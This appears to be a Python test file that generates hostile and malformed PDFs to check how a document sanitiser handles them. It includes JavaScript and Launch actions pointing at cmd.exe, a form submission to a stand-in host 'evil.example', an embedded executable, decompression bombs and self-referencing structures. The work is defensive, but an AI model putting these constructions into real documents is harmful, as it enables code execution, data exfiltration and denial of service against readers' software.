"""PDF: what runs, what is locked, what never ends."""

import io
import zlib
from collections.abc import Callable
from functools import partial

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from anfu.core.tests.samples import pdf
from tests.hostile.case import Case, mutated
from tests.hostile.pictures import zipped

SECRET = b"secret-payload-7391"
SCRIPT = String("app.alert('secret-payload-7391')")


def made(change: Callable[[pikepdf.Pdf], object], **how: object) -> bytes:
    held, document = io.BytesIO(), pikepdf.new()
    document.add_blank_page()
    change(document)
    document.save(held, **how)
    return held.getvalue()


def rooted(key: str, value: object) -> bytes:
    return made(lambda d: d.Root.__setitem__(key, value))


def annotated(**what: object) -> bytes:
    note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **what)
    return made(lambda d: d.pages[0].__setitem__("/Annots", Array([note])))


def attached(document: pikepdf.Pdf) -> None:
    document.attachments["x.exe"] = pikepdf.AttachedFileSpec(document, b"MZ" + SECRET)


def raw(objects: list[bytes], trailer: bytes) -> bytes:
    """A file without a table of its objects: the reader has to find them."""
    numbered = b"".join(b"%d 0 obj\n%s\nendobj\n" % (n, body) for n, body in enumerate(objects, 1))
    return b"%PDF-1.7\n" + numbered + b"trailer\n" + trailer + b"\n%%EOF"


def stream(data: bytes, more: bytes = b"") -> bytes:
    packed = zlib.compress(data, 9)
    return b"<< /Filter /FlateDecode /Length %d %s>>\nstream\n%s\nendstream" % (len(packed), more, packed)


ROOT = b"<< /Type /Catalog /Pages 2 0 R >>"
PAGES = b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"
PAGE = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] %s>>"
END = b"<< /Root 1 0 R >>"
ACTION = Dictionary(S=Name.JavaScript, JS=SCRIPT)


def locked(user: str) -> bytes:
    return made(lambda d: None, encryption=pikepdf.Encryption(owner="o", user=user))


CASES = [
    Case("js-on-open", lambda: rooted("/OpenAction", ACTION), "taken", b"/JavaScript"),
    Case("js-by-name", lambda: rooted("/Names", Dictionary(JavaScript=Dictionary(Names=Array([String("a"), ACTION])))), "taken", b"/JS"),
    Case("js-on-page", lambda: made(lambda d: d.pages[0].__setitem__("/AA", Dictionary(O=ACTION))), "taken", b"/AA"),
    Case("js-on-click", lambda: annotated(Subtype=Name.Link, A=ACTION), "taken", b"/JavaScript"),
    Case("js-in-form", lambda: rooted("/AcroForm", Dictionary(Fields=Array(), XFA=SCRIPT)), "taken", SECRET),
    Case("launch", lambda: annotated(Subtype=Name.Link, A=Dictionary(S=Name.Launch, F=String("cmd.exe"))), "taken", b"cmd.exe"),
    Case("launch-chain", lambda: rooted("/OpenAction", Dictionary(S=Name.GoTo, Next=Dictionary(S=Name.Launch, F=String("cmd.exe")))), "taken", b"cmd.exe"),
    Case("submit", lambda: annotated(Subtype=Name.Link, A=Dictionary(S=Name.SubmitForm, F=String("http://evil.example"))), "taken", b"evil.example"),
    Case("other-file", lambda: annotated(Subtype=Name.Link, A=Dictionary(S=Name.GoToR, F=String("\\\\evil\\x.pdf"))), "taken", b"/GoToR"),
    Case("embedded-exe", partial(made, attached), "taken", b"/EmbeddedFiles"),
    Case("file-annotation", lambda: annotated(Subtype=Name.FileAttachment, FS=Dictionary(F=String("x.exe"))), "taken", b"x.exe"),
    Case("rich-media", lambda: annotated(Subtype=Name.RichMedia, RichMediaContent=Dictionary(A=SCRIPT)), "taken", SECRET),
    Case("locked", partial(locked, "u")),
    Case("locked-for-change-only", partial(locked, ""), "taken"),
    Case("no-page", lambda: raw([ROOT, b"<< /Type /Pages /Kids [] /Count 0 >>"], END)),
    Case("pages-that-hold-themselves", lambda: raw([ROOT, b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"], END)),
    Case("a-thousand-times-the-same-pages", lambda: raw([ROOT, b"<< /Type /Pages /Kids [" + b"3 0 R " * 4_000 + b"] /Count 4000 >>", PAGE % b""], END)),
    Case("3100-pages", partial(pdf, 3_100)),
    Case("deep-arrays", lambda: raw([ROOT, PAGES, PAGE % (b"/X " + b"[" * 20_000 + b"]" * 20_000)], END), "either"),
    Case("deep-dictionaries", lambda: raw([ROOT, PAGES, PAGE % (b"/X " + b"<< /A " * 400 + b"1" + b" >>" * 400)], END)),
    Case("object-stream-bomb", lambda: raw([ROOT, PAGES, PAGE % b"", stream(b"9 0 " + b" " * 400_000_000, b"/Type /ObjStm /N 1 /First 4 ")], b"<< /Root 9 0 R >>"), "either"),
    Case("content-bomb", lambda: raw([ROOT, PAGES, PAGE % b"/Contents 4 0 R ", stream(bytes(200_000_000))], END), "either"),
    Case("table-that-follows-itself", lambda: b"%PDF-1.5\nxref\n0 0\ntrailer\n<< /Size 1 /Prev 9 >>\nstartxref\n9\n%%EOF"),
    Case("table-far-outside", lambda: pdf().replace(b"startxref", b"startxref\n99999999999 %"), "either"),
    Case("header-only", lambda: b"%PDF-1.7\n"),
    Case("header-and-nothing-else", lambda: b"%PDF-1.7 " + b"A" * 100_000),
    Case("pdf-and-zip", lambda: pdf() + zipped(), "either"),
    Case("junk-before", lambda: b"<html><script>1</script>" + pdf()),
    Case("cut-half", lambda: pdf()[: len(pdf()) // 2], "either"),
    Case("cut-tail", lambda: pdf()[:-30], "either"),
    Case("endless-numbers", lambda: raw([ROOT, PAGES, PAGE % (b"/Rotate " + b"9" * 100_000)], END), "either"),
    Case("signed-looking-plain", pdf, "taken"),
    *(Case(f"pdf-mutated-{seed}", lambda seed=seed: mutated(pdf(3), seed), "either") for seed in range(8)),
]  # fmt: skip
